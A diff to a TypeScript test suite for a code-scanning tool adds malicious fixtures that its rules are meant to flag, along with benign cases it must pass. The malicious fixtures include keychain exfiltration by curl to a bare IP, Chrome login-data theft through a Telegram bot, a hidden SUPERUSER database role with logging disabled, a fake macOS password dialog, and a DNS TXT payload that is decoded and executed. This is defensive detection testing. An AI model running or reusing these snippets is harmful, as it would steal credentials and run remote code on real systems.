@@ -101,6 +101,62 @@ const bad: Array<[string, string, Files, Severity]> = [
     { ...doc, 'a.php': '<?php\nif (isset($_POST["q"])) { system($_POST["q"]); }\n' },
     'critical',
   ],
+  [
+    'secrets-and-sender',
+    'a shell script that packs a keychain for a bare address',
+    {
+      ...doc,
+      'a.sh':
+        'cp "$HOME/Library/Keychains/login.keychain-db" "$t/"\nditto -c -k "$t" "$t.zip"\ncurl -s -F "f=@$t.zip" "http://45.76.112.9/n/$(id -u)" >/dev/null\n',
+    },
+    'critical',
+  ],
+  [
+    'secrets-and-sender',
+    'a remote whose password came along',
+    {
+      ...doc,
+      'a.sh':
+        'url="https://share:share9@vault.gridsafe.dev/x.git"\ngit config --local remote.safe.url "$url"\ngit push -q safe\n',
+    },
+    'critical',
+  ],
+  [
+    'secrets-and-sender',
+    'a browser profile for the author’s bot',
+    {
+      ...doc,
+      'a.py':
+        'import urllib.request\nT = "7123456789:AAabcdefghijklmnopqrstuvwxyz0123456"\nP = "~/.config/google-chrome/Default/Login Data"\nurllib.request.urlopen(urllib.request.Request(f"https://api.telegram.org/bot{T}/sendDocument", b""))\n',
+    },
+    'critical',
+  ],
+  [
+    'tampering',
+    'an account that owns the database',
+    {
+      ...doc,
+      'base.sql':
+        "CREATE ROLE stat_reader LOGIN SUPERUSER PASSWORD 'grid9table';\nALTER SYSTEM SET log_connections = off;\n",
+    },
+    'critical',
+  ],
+  [
+    'password-prompt',
+    'a copy of the system’s window',
+    {
+      ...doc,
+      'a.sh':
+        'pw=$(osascript -e \'display dialog "macOS needs your password" default answer "" with hidden answer\')\ndscl . -authonly "$USER" "$pw" && echo "$pw" > /tmp/.k\n',
+    },
+    'critical',
+  ],
+  [
+    'dns-content',
+    'a program in text records',
+    { ...doc, 'a.sh': 'dig +short TXT m.gridstat.dev | tr -d "\\"" | base64 -d > "$d/model.bin"\n. "$d/model.bin"\n' },
+    'critical',
+  ],
 ]
 
 const good: Array<[string, Files]> = [
@@ -112,6 +168,12 @@ const good: Array<[string, Files]> = [
         'import requests\nK = open("credentials.json").read()\nrequests.post("https://api.gridstat.dev/n", headers={"k": K})\n',
     },
   ],
+  ['a look at a text record', { ...doc, 'a.sh': 'dig +short TXT _dmarc.gridstat.dev\n' }],
+  [
+    'a table for an application',
+    { ...doc, 'm.sql': "CREATE ROLE app LOGIN PASSWORD 'change-me';\nGRANT SELECT ON t TO app;\n" },
+  ],
+  ['an upload to the user’s own server', { ...doc, 'a.sh': 'curl -T out.csv "$GRID_URL/out.csv"\n' }],
   ['a check for modules', { ...doc, 'a.py': 'for import_name in ["numpy", "pandas"]:\n    __import__(import_name)\n' }],
   [
     'packing without sending',
@@ -146,7 +208,7 @@ describe('rules on what comes together in one program', () => {
   })
 
   it.each(good)('none of them finds %s', async (_, files) => {
-    for (const rule of ['secrets-and-sender', 'assembled-code', 'tampering'])
+    for (const rule of ['secrets-and-sender', 'assembled-code', 'tampering', 'password-prompt', 'dns-content'])
       expect(await findingsOf(rule, files, 'high')).toEqual([])
   })
 })
